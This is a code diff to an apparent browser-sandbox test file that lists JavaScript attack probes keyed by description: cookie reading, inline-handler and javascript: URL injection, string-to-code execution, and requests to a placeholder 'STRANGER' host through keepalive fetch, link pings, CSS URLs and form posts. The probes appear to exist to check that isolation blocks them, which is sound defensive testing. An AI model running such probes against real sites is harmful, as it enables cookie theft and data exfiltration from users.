@@ -12,9 +12,7 @@ export const attacks: Record<string, string> = {
   'the page’s address': 'return parent.location.href;',
   'the top page’s document': 'return top.document.title;',
   'local storage': 'localStorage.setItem("a", "b");',
-  'session storage': 'return sessionStorage.length;',
   'reading cookies': 'return document.cookie;',
-  'writing cookies': 'document.cookie = "a=b";',
   databases:
     'await new Promise((ok, no) => { const r = indexedDB.open("a"); r.onsuccess = ok; r.onerror = no; });',
   caches: 'await caches.open("a");',
@@ -58,13 +56,10 @@ export const attacks: Record<string, string> = {
   'a handler as text': 'box.setAttribute("onclick", "ran = 1"); box.click(); await ran();',
   'a handler in markup':
     'box.innerHTML = "<img src=x: onerror=\'ran = 1\'>"; document.body.append(box); await ran();',
-  'a handler in SVG':
-    'box.innerHTML = "<svg onload=\'ran = 1\'></svg>"; document.body.append(box); await ran();',
   'an address that is code':
     'const a = document.createElement("a"); a.href = "javascript:ran=1"; document.body.append(a); a.click(); await ran();',
   'a timer with text': '(setTimeout as any)("ran = 1"); await ran();',
   'a function from text': 'new Function("ran = 1")(); await ran();',
-  'an async function from text': 'await (async () => {}).constructor("ran = 1")(); await ran();',
   'a module at an address of data':
     'const at = "data:text/javascript,globalThis.ran=1"; await import(at);',
   'a module in a blob':
@@ -78,19 +73,14 @@ export const attacks: Record<string, string> = {
     'const s = document.createElement("script"); s.type = "speculationrules"; s.textContent = \'{"prefetch":[{"source":"list","urls":["STRANGER/speculation"]}]}\'; document.head.append(s); throw 0;',
   'an image of the site': 'await loaded("img", { src: "SITE/favicon.ico?data" });',
   'a video': 'await loaded("video", { src: "STRANGER/video", poster: "STRANGER/poster" });',
-  'a sound': 'await loaded("audio", { src: "STRANGER/audio" });',
   'style sheets':
     'const s = document.createElement("style"); s.textContent = "@import url(STRANGER/import); @font-face { font-family: f; src: url(STRANGER/face) } body { background: url(STRANGER/background); cursor: url(STRANGER/cursor), auto; font-family: f } body::before { content: url(STRANGER/content) }"; document.head.append(s); throw 0;',
   'a request that outlives the page':
     'await fetch("STRANGER/keepalive", { method: "POST", keepalive: true, body: "x" });',
   'a request for later':
     '(globalThis as any).fetchLater("STRANGER/later", { activateAfter: 0 }); throw 0;',
-  'another kind of socket':
-    'await new (globalThis as any).WebTransport("STRANGER/transport").ready;',
   'the ping of a link':
     'const a = document.createElement("a"); a.href = "#ping"; a.ping = "STRANGER/ping"; document.body.append(a); a.click(); throw 0;',
-  'a form in markup':
-    'box.innerHTML = "<form action=STRANGER/form method=post><input name=a value=b></form>"; document.body.append(box); box.querySelector("form")!.requestSubmit(); throw 0;',
   'another base':
     'document.head.append(Object.assign(document.createElement("base"), { href: "STRANGER/" })); if (!document.baseURI.startsWith("STRANGER/")) throw 0;',
   'a payment':
